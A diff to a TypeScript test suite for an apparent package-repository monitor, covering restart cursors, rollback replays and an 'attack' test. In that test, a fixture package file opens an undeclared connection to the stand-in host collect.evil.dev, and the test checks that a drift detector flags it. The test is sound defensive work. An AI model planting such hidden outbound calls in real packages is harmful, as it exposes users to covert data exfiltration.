@@ -87,7 +87,8 @@ async function ask<T>(path: string): Promise<T> {
   return answer.value;
 }
 const findings = async () => (await ask<{ findings: readonly Finding[] }>("/findings")).findings;
-const found = async () => (await findings()).map(({ detector }) => detector);
+const isUnusual = ({ severity }: Finding) => severity !== "Informational";
+const found = async () => (await findings()).filter(isUnusual).map(({ detector }) => detector);
 
 async function until(holds: () => Promise<boolean>): Promise<void> {
   for (let wait = 0; wait < 2400; wait++, await sleep(25)) if (await holds()) return;
@@ -164,24 +165,37 @@ test("everything was found once, however often it is looked at", async () => {
 
 test("killed and started again, it goes on from its cursor and repeats nothing", async () => {
   const { size } = await look();
-  const before = await findings();
+  const before = (await findings()).filter(isUnusual);
   await observe.stop("SIGKILL");
   const logged = await good(6); // while nobody looks
   observe = await start();
   assert.equal((await ask<Status>("/status")).size, size);
   await publish(logged);
   assert.equal((await look()).size, size + 3); // provenance, release, channel
-  assert.deepEqual(await findings(), before);
+  assert.deepEqual((await findings()).filter(isUnusual), before);
   const lines = readFileSync(join(project.directory, "duties/observe/findings.jsonl"), "utf8").trimEnd().split("\n");
-  assert.deepEqual(
-    lines.map((line) => JSON.parse(line)),
-    before,
-  );
+  assert.deepEqual(lines.map((line): Finding => JSON.parse(line)).filter(isUnusual), before);
+});
+
+test("attack: a release that starts to talk and does not say so is named, with the line, its bits and how rare that is", async () => {
+  const files = {
+    "bin/run": "#!/bin/sh\necho hello 4\n",
+    "lib/start.js": 'import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n',
+  };
+  await publish(await enter(ground, await sampleStatement(ground, { sequence: 7 }, files)));
+  const drift = async () => (await findings()).find(({ detector, evidence }) => detector === "package-drift" && evidence["sequence"] === 7);
+  await until(async () => (await drift()) !== undefined);
+  const { severity, evidence } = (await drift()) as Finding;
+  assert.equal(severity, "Medium");
+  const { bits, sightings } = evidence as { bits: number; sightings: { signal: string; benign: number; evidence: unknown[] }[] };
+  assert.ok(bits >= 12 && sightings.every(({ benign }) => benign > 0 && benign < 1));
+  const undeclared = sightings.find(({ signal }) => signal === "privilege-undeclared");
+  assert.deepEqual(undeclared?.evidence, [{ path: "lib/start.js", line: 1, text: "network: network" }]);
 });
 
 test("a replay of an older repository, properly signed, is seen", async () => {
   const newest = (await store.read("metadata/timestamp.json")) ?? new Uint8Array();
-  await publish(await good(7));
+  await publish(await good(8));
   await look();
   await store.write("metadata/timestamp.json", newest);
   await until(async () => (await found()).filter((name) => name === "repository-rolled-back").length === 3);
